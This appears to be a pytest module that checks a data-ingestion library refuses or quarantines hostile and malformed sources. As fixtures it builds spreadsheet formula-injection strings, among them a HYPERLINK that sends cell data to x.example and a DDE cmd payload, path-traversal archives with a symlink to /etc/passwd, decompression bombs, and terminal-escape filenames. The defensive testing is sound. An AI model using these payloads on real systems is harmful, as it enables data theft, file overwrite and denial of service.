"""Sources that somebody made to do harm, or that broke on the way: each is refused by a code or reported by its place,
within bounds of memory, and nothing outside the source is touched."""

from __future__ import annotations

import csv
import gzip
import io
import os
import tarfile
import zipfile
from itertools import islice
from pathlib import Path
from typing import Any

import pytest

from malformed import KINDS, MARK, mixed
from metier.core.errors import DataError, RowError
from metier.core.project import Project, read_json
from metier.core.recipe import Recipe
from metier.data import csv_rows, parquet_rows, source, unpacking
from metier.data import rows as rows_module
from metier.data.dataset import build
from metier.data.formats import read_row
from metier.data.quarantine import Quarantine, listing
from metier.data.rows import KEPT_BYTES, BadRow, Row
from metier.data.source import read_rows

from .conftest import read, refused

# ───────────────────────────────────────────────────────────────────────────── malformed rows


def test_every_kind_of_malformed_row_is_reported_by_line_and_class_and_the_good_ones_are_kept(tmp_path: Path) -> None:
    assert len(KINDS) >= 25
    project = Project.create(tmp_path / "project", "test")
    rows = mixed(1_000, 4 * len(KINDS))
    (project.root / "data" / "rows.jsonl").write_bytes(rows.data)
    values = {"name": "x", "objective": {"task": "classify"}, "method": "classify"}
    data = {"sources": [{"path": "data/rows.jsonl"}], "max_quarantine": 0.2}
    made = build(Recipe.build({**values, "data": data}), project)
    facts = made.manifest["quarantine"]
    found = [(int(line.split()[0].partition(":")[2]), r) for r, line in listing(project.root / facts["file"])]
    assert found == rows.bad
    assert sum(made.manifest["counts"].values()) == rows.num_good == 880
    assert facts["rows"] == sum(reason["count"] for reason in facts["reasons"].values()) == 120
    holding = {p.parent.name for p in project.root.rglob("*") if p.is_file() and MARK.encode() in p.read_bytes()}
    assert holding == {"data", "x"}  # the source, and private/quarantine/x


def test_a_csv_of_many_encodings_loses_the_foreign_rows_alone(tmp_path: Path) -> None:
    file = tmp_path / "a.csv"
    foreign = ["café".encode("latin-1"), "5 €".encode("cp1252"), "東京".encode("shift_jis"), "ж".encode("koi8-r")]
    lines = [
        b"text,label",
        *(text + b",x" for text in foreign),
        "café 5 € 東京 ж,y".encode(),
        "a,x".encode("utf-16-le"),
    ]
    file.write_bytes(b"\n".join(lines) + b"\n")
    good, bad = read(file)
    assert [r.value for r in good] == [{"text": "café 5 € 東京 ж", "label": "y"}]
    assert [b.place for b in bad] == [f"a.csv:{n}" for n in (2, 3, 4, 5, 7)]
    assert {b.reason for b in bad[:4]} == {"not-utf8"}


@pytest.mark.parametrize(("encoding", "said"), [("utf-16", "UTF-16"), ("utf-32", "UTF-32")])
def test_a_file_in_another_encoding_is_named_by_it(tmp_path: Path, encoding: str, said: str) -> None:
    (tmp_path / "a.csv").write_bytes("text,label\na,b\n".encode(encoding))
    error = refused(tmp_path / "a.csv")
    assert error.code == "E307" and said in error.what and said.lower() in error.fix


def test_formulas_of_a_spreadsheet_stay_the_text_that_they_are(tmp_path: Path) -> None:
    formulas = [
        '=HYPERLINK("http://x.example/?"&A1)',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "-12.5",
    ]
    with (tmp_path / "a.csv").open("w", newline="") as file:
        csv.writer(file).writerows([["text", "label"], *([formula, "x"] for formula in formulas)])
    good, bad = read(tmp_path / "a.csv")
    assert [r.value["text"] for r in good] == formulas
    assert not bad


def test_a_csv_with_carriage_returns_alone_says_so(tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_bytes(b"text,label\ra,b\rc,d\r")
    error = refused(tmp_path / "a.csv")
    assert error.code == "E308" and "carriage return" in error.received


def test_quotes_that_are_never_closed_do_not_make_reading_quadratic(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file, fed = tmp_path / "a.csv", 0
    file.write_text("text,label\n" + 'a","c\n' * 20_000 + "last,row\n")
    following = csv_rows._Lines.next

    def counted(lines: csv_rows._Lines) -> Any:
        nonlocal fed
        fed += 1
        return following(lines)

    monkeypatch.setattr(csv_rows._Lines, "next", counted)
    good, bad = read(file)
    assert [b.reason for b in bad] == ["broken-quotes"] and len(bad[0].raw) < 2 * KEPT_BYTES
    assert [r.value["text"] for r in good] == ["last"]
    assert fed < 20_000 * (csv_rows.MAX_LOOKS + csv_rows.FEW_RECORD_LINES + 5)  # 40 million without the bound


def test_a_quoted_field_of_long_lines_is_bounded_as_one_line_is(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(rows_module, "MAX_LINE_BYTES", 1000)
    file = tmp_path / "a.csv"
    file.write_text('text,label\n"' + ("x" * 90 + "\n") * 30 + '",a\nshort,b\n')
    good, bad = read(file)
    assert [r.value for r in good] == [{"text": "short", "label": "b"}]
    assert [(b.reason, b.place) for b in bad] == [("broken-quotes", "a.csv:2")]


def test_json_within_a_string_of_a_row_is_read_as_strictly_as_the_row() -> None:
    for arguments in ('{"q": "\\ud83d"}', '{"q": "\\u0000"}', '{"q": NaN}', '{"q": ' + "[" * 900 + "]" * 900 + "}"):
        call = {"function": {"name": "look", "arguments": arguments}}
        row = {"messages": [{"role": "user", "content": "a"}, {"role": "assistant", "tool_calls": [call]}]}
        with pytest.raises(RowError) as caught:
            read_row("openai", row, place="a:1")
        assert caught.value.reason == "tool-arguments-not-json"


def test_of_a_long_bad_row_the_quarantine_keeps_the_beginning() -> None:
    quarantine = Quarantine()
    quarantine.take(BadRow("a:1", "invalid-json", "no", b"x" * 1_000_000))
    quarantine.refuse("a:2", RowError("no-label", "no"), b"y" * 1_000_000)
    assert [len(row.raw) for row in quarantine.rows] == [KEPT_BYTES, KEPT_BYTES]


# ───────────────────────────────────────────────────────────────────────────── Parquet


def table(path: Path, **columns: Any) -> Path:
    import pyarrow
    import pyarrow.parquet

    pyarrow.parquet.write_table(pyarrow.table(columns), path)
    return path


def test_nested_nulls_of_parquet_are_kept_where_they_stand(tmp_path: Path) -> None:
    import pyarrow

    turns = [
        None,
        [],
        [None],
        [{"role": None, "content": [None, {"text": None}]}],
        [{"role": "user", "content": None}, {"role": "assistant", "content": [{"text": "yes"}]}],
    ]
    pairs = pyarrow.array([None, [], [("a", None)], [("b", 1)], None], type=pyarrow.map_("string", "int64"))
    file = table(tmp_path / "a.parquet", messages=turns, nothing=pyarrow.nulls(5), pairs=pairs)
    good, bad = read(file)
    assert [r.value["messages"] for r in good] == turns
    assert {r.value["nothing"] for r in good} == {None}
    assert [r.value["pairs"] for r in good] == [None, [], [["a", None]], [["b", 1]], None]
    assert not bad


def test_null_messages_and_null_labels_are_bad_rows_and_no_crash(tmp_path: Path) -> None:
    turns: list[Any] = [None, [], [None], [{"role": "user", "content": None}, {"role": "assistant", "content": "b"}]]
    reasons = []
    for row in read(table(tmp_path / "a.parquet", messages=turns))[0]:
        with pytest.raises(RowError) as caught:
            read_row("openai", row.value, place=row.place)
        reasons.append(caught.value.reason)
    assert reasons == ["no-messages", "no-messages", "not-a-message", "not-text"]
    rows = read(table(tmp_path / "b.parquet", text=["a", None, "b"], label=[None, "x", "y"]))[0]
    for row, reason in zip(rows, ("no-label", "not-text"), strict=False):
        with pytest.raises(RowError) as caught:
            read_row("labelled", row.value, place=row.place)
        assert caught.value.reason == reason


def test_a_parquet_value_that_cannot_be_read_costs_its_own_row(tmp_path: Path) -> None:
    import pyarrow

    offsets, letters = pyarrow.py_buffer(b"\0\0\0\0\4\0\0\0\6\0\0\0\7\0\0\0"), pyarrow.py_buffer(b"caf\xe9okz")
    text = pyarrow.Array.from_buffers(pyarrow.string(), 3, [None, offsets, letters])
    day = pyarrow.array([0, 1, 2**31 - 1], type=pyarrow.int32()).cast(pyarrow.date32())
    good, bad = read(table(tmp_path / "a.parquet", text=text, day=day))
    assert [(r.value, r.place) for r in good] == [({"text": "ok", "day": "1970-01-02"}, "a.parquet:2")]
    assert [(b.reason, b.place, b.field) for b in bad] == [
        ("not-utf8", "a.parquet:1", "text"),
        ("unreadable-value", "a.parquet:3", "day"),
    ]


def test_times_of_nanoseconds_are_read_to_the_microsecond_with_or_without_pandas(tmp_path: Path) -> None:
    import pyarrow

    at = pyarrow.array([1_500_000_000_123_456_789], type=pyarrow.timestamp("ns", tz="UTC"))
    inner = pyarrow.array([[{"at": 1_001}]], type=pyarrow.list_(pyarrow.struct([("at", pyarrow.timestamp("ns"))])))
    good, bad = read(table(tmp_path / "a.parquet", at=at, inner=inner))
    assert good[0].value == {
        "at": "2017-07-14T02:40:00.123456+00:00",
        "inner": [{"at": "1970-01-01T00:00:00.000001"}],
    }
    assert not bad


def test_a_parquet_file_that_names_a_column_twice_is_refused(tmp_path: Path) -> None:
    import pyarrow
    import pyarrow.parquet

    both = pyarrow.Table.from_arrays([pyarrow.array(["a"]), pyarrow.array(["b"])], names=["text", "text"])
    pyarrow.parquet.write_table(both, tmp_path / "a.parquet")
    assert refused(tmp_path / "a.parquet").code == "E308"


def test_a_parquet_schema_that_is_nested_too_deeply_is_a_damaged_file_not_a_question_of_permissions(
    tmp_path: Path,
) -> None:
    import pyarrow

    kind: Any = pyarrow.int64()
    value: Any = 1
    for _ in range(150):
        kind, value = pyarrow.list_(kind), [value]
    error = refused(table(tmp_path / "a.parquet", text=pyarrow.array([value], type=kind)))
    assert error.code == "E306" and "nested" in error.received


def test_a_parquet_bomb_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    file = table(tmp_path / "a.parquet", text=["x" * 10_000] * 3_000)
    assert file.stat().st_size < 20_000
    assert len(read(file)[0]) == 3_000  # thirty megabytes: anybody's
    monkeypatch.setattr(parquet_rows, "UNPACKED_FLOOR_BYTES", 1_000_000)
    monkeypatch.setattr(unpacking, "UNPACKED_FLOOR_BYTES", 1_000_000)
    assert refused(file).code == "E313"


def test_a_parquet_column_that_points_into_a_dictionary_counts_what_it_points_at(tmp_path: Path) -> None:
    import pyarrow

    values = pyarrow.array(["x" * 50_000, "y"])
    column = pyarrow.DictionaryArray.from_arrays(pyarrow.array([0, 1, None, None, 0] * 8_000), values)
    file = table(tmp_path / "a.parquet", text=column)
    found = list(islice(read_rows(file), 5))
    assert [len(row.value["text"] or "") for row in found if isinstance(row, Row)] == [50_000, 1, 0, 0, 50_000]
    assert refused(table(tmp_path / "b.parquet", text=pyarrow.concat_arrays([column] * 2))).code == "E313"  # 1.6 GB


# ───────────────────────────────────────────────────────────────────────────── archives and links


def archives(folder: Path) -> list[Path]:
    """Archives whose members lead elsewhere: up, to an absolute path, through a link."""
    made = []
    for name, mode in (("a.zip", ""), ("a.tar", "w"), ("a.tar.gz", "w:gz"), ("a.tgz", "w:gz"), ("a.tar.bz2", "w:bz2")):
        file = folder / name
        made.append(file)
        if not mode:
            with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
                for member in ("../escaped.jsonl", "/tmp/metier-escaped.jsonl", "rows.jsonl", "..\\escaped.jsonl"):
                    packed.writestr(member, '{"text": "a"}\n' * 1000)
            continue
        with tarfile.open(file, mode) as tar:  # type: ignore[call-overload]
            for member in ("../escaped.jsonl", "/tmp/metier-escaped.jsonl", "rows.jsonl"):
                info = tarfile.TarInfo(member)
                info.size = 14
                tar.addfile(info, io.BytesIO(b'{"text": "a"}\n'))
            link = tarfile.TarInfo("link.jsonl")
            link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
            tar.addfile(link)
    return made


def test_an_archive_is_refused_by_its_name_and_nothing_of_it_is_written(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    for file in archives(tmp_path / "in"):
        error = refused(file)
        assert error.code == "E302" and "never unpacked" in error.what, file.name
        assert file.name in error.fix and error.fix.split()[0] in ("unzip", "tar")
    assert sorted(p.name for p in tmp_path.rglob("*.jsonl")) == []
    assert not Path("/tmp/metier-escaped.jsonl").exists()


def test_an_archive_under_another_name_is_known_by_its_first_bytes(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    said = []
    for file in archives(tmp_path / "in"):
        renamed = file.rename(tmp_path / "in" / f"{file.name.replace('.', '-')}.jsonl")
        error = refused(renamed)
        said.append((error.code, error.what.removeprefix("By its first bytes the file is ").removesuffix(", not text")))
    assert said == [
        ("E302", "a ZIP archive (or a spreadsheet)"),
        ("E302", "a tar archive"),
        ("E302", "compressed by gzip"),
        ("E302", "compressed by gzip"),
        ("E302", "compressed by bzip2"),
    ]
    with gzip.open(tmp_path / "b.csv.gz", "wb") as packed:
        packed.write((tmp_path / "in" / "a-tar.jsonl").read_bytes())
    assert "tar archive" in refused(tmp_path / "b.csv.gz").what


def test_a_folder_reports_archives_and_links_that_lead_out_and_follows_neither(tmp_path: Path) -> None:
    outside, inside = tmp_path / "outside", tmp_path / "inside"
    (outside / "deep").mkdir(parents=True)
    inside.mkdir()
    (outside / "deep" / "secret.jsonl").write_text('{"text": "secret"}\n')
    (inside / "own.jsonl").write_text('{"text": "own"}\n')
    (inside / "again.jsonl").symlink_to(inside / "own.jsonl")  # leads nowhere else: it is read
    (inside / "link.jsonl").symlink_to(outside / "deep" / "secret.jsonl")
    (inside / "folder").symlink_to(outside / "deep")
    (inside / "up").symlink_to("..")
    (inside / "loop").symlink_to(".")
    (inside / "nowhere.jsonl").symlink_to(outside / "missing.jsonl")
    os.mkfifo(inside / "pipe.jsonl")
    archives(inside)
    left_out = {("archive", f"a{ending}") for ending in (".zip", ".tar", ".tar.gz", ".tgz", ".tar.bz2")}
    for path in (inside, inside / "*", inside / "**" / "*.jsonl"):
        good, bad = read(path)
        assert {r.value["text"] for r in good} == {"own"} and len(good) == 2
        assert ("outside-link", "link.jsonl") in {(b.reason, b.place) for b in bad}
        assert path.name == "*.jsonl" or left_out < {(b.reason, b.place) for b in bad}
        assert not any(b.raw for b in bad)


def test_a_folder_of_links_that_lead_out_alone_has_no_rows(tmp_path: Path) -> None:
    (tmp_path / "outside.jsonl").write_text('{"text": "secret"}\n')
    (tmp_path / "inside").mkdir()
    (tmp_path / "inside" / "link.jsonl").symlink_to(tmp_path / "outside.jsonl")
    assert refused(tmp_path / "inside").code == "E301"
    assert refused(tmp_path / "inside" / "*.jsonl").code == "E300"


def test_names_of_files_can_neither_break_a_line_nor_the_terminal(tmp_path: Path) -> None:
    for name in (b"caf\xe9.txt", b"a\nb.txt", b"\x1b[31mred.txt"):
        (tmp_path / os.fsdecode(name)).write_text("text")
    places = [row.place for row in read(tmp_path)[0]]
    assert sorted(places) == ["\\x1b[31mred.txt", "a\\x0ab.txt", "caf\\xe9.txt"]
    assert refused(tmp_path / "\x1b[31m.jsonl").place == "\\x1b[31m.jsonl"


# ───────────────────────────────────────────────────────────────────────────── bombs, lines without end


@pytest.mark.parametrize("name", ["a.jsonl.gz", "a.csv.gz", "a.json.gz", "a.txt.gz", "a.md.gz", "a.html.gz"])
def test_a_gzip_bomb_is_refused_where_the_bound_is_reached(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.setattr(unpacking, "UNPACKED_FLOOR_BYTES", 2_000_000)
    member = gzip.compress(b"x" * 4_000_000)
    (tmp_path / name).write_bytes(member * 50)  # 200 MB: members follow each other in one file
    error = refused(tmp_path / name)
    assert error.code == "E313" and error.place == name and "unpack it yourself" in error.fix


def test_what_packs_well_is_no_bomb(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(unpacking, "UNPACKED_FLOOR_BYTES", 1_000)
    prompt = " ".join(f"rule {i}: be brief and kind." for i in range(100))
    with gzip.open(tmp_path / "a.jsonl.gz", "wt") as file:
        file.writelines(f'{{"text": "{prompt} {i * 7919}"}}\n' for i in range(2_000))
    assert len(read(tmp_path / "a.jsonl.gz")[0]) == 2_000


def test_a_zstandard_bomb_is_refused_too(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    zstandard = pytest.importorskip("zstandard")
    monkeypatch.setattr(unpacking, "UNPACKED_FLOOR_BYTES", 2_000_000)
    (tmp_path / "a.jsonl.zst").write_bytes(zstandard.compress(b"x" * 50_000_000))
    assert refused(tmp_path / "a.jsonl.zst").code == "E313"


class Endless(io.RawIOBase):
    """A stream of one line that is `size` bytes long, and what was asked of it at once."""

    def __init__(self, size: int) -> None:
        super().__init__()
        self.left = size
        self.largest = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        number = min(len(buffer), self.left)
        buffer[:number] = b"x" * number
        self.left -= number
        self.largest = max(self.largest, len(buffer))
        return number


def test_a_line_without_end_is_read_in_pieces(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rows_module, "MAX_LINE_BYTES", 1 << 16)
    stream = Endless(50_000_000)
    (bad,) = rows_module.numbered_lines(io.BufferedReader(stream, 1 << 12), "a.jsonl")
    assert isinstance(bad, BadRow) and (bad.reason, bad.place, len(bad.raw)) == ("too-long", "a.jsonl:1", KEPT_BYTES)
    assert stream.left == 0 and stream.largest <= rows_module.SKIPPED_BYTES


@pytest.mark.parametrize(("name", "bound"), [("a.txt", "MAX_TEXT_BYTES"), ("a.json", "MAX_FILE_BYTES")])
def test_a_file_over_its_bound_is_refused_unread(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, bound: str
) -> None:
    from metier.data import json_rows

    monkeypatch.setattr(source if name == "a.txt" else json_rows, bound, 1_000)
    (tmp_path / name).write_bytes(b"x" * 1_001)
    if name == "a.json":
        assert refused(tmp_path / name).code == "E306"
    else:
        assert [(b.reason, b.place, b.raw) for b in read(tmp_path / name)[1]] == [("too-long", "a.txt", b"")]


def test_a_refusal_shows_no_content(tmp_path: Path) -> None:
    """What the manifest of a version says of its bad rows is classes, places and fields."""
    project = Project.create(tmp_path / "project", "test")
    rows = mixed(400, len(KINDS), seed=1)
    (project.root / "data" / "rows.jsonl").write_bytes(rows.data)
    values = {"name": "x", "objective": {"task": "classify"}, "method": "classify"}
    with pytest.raises(DataError) as caught:
        build(Recipe.build({**values, "data": {"sources": [{"path": "data/rows.jsonl"}]}}), project)
    assert caught.value.code == "E310" and MARK not in str(caught.value)
    data = {"sources": [{"path": "data/rows.jsonl"}], "max_quarantine": 0.1}
    manifest = read_json(build(Recipe.build({**values, "data": data}), project).dir / "manifest.json")
    assert set(manifest["quarantine"]["reasons"]) == {reason for _, reason in KINDS.values()}


@pytest.mark.parametrize(
    "first",
    [
        "My husband Jan Kowalski has had chest pain since Monday,urgent",
        "jan.kowalski@mail.example,urgent",
        "Kowalski 555-01-4477,urgent",
    ],
)
def test_the_first_row_of_a_table_without_a_header_is_not_shown_as_its_columns(tmp_path: Path, first: str) -> None:
    project = Project.create(tmp_path / "project", "test")
    (project.root / "data" / "rows.csv").write_text(f"{first}\nShe has a fever,urgent\n")
    for options in ({}, {"map": {"text": "body", "label": "kind"}}):
        source_of = {"path": "data/rows.csv", **options}
        recipe = Recipe.build({"name": "x", "objective": {"task": "classify"}, "data": {"sources": [source_of]}})
        with pytest.raises(DataError) as caught:
            build(recipe, project)
        assert caught.value.code == ("E312" if options else "E304")
        assert "owalski" not in str(caught.value) and "lack a header" in str(caught.value)
    (project.root / "data" / "rows.csv").write_text(f"{first},{first}\n")
    error = refused(project.root / "data" / "rows.csv")
    assert error.code == "E308" and "owalski" not in str(error)
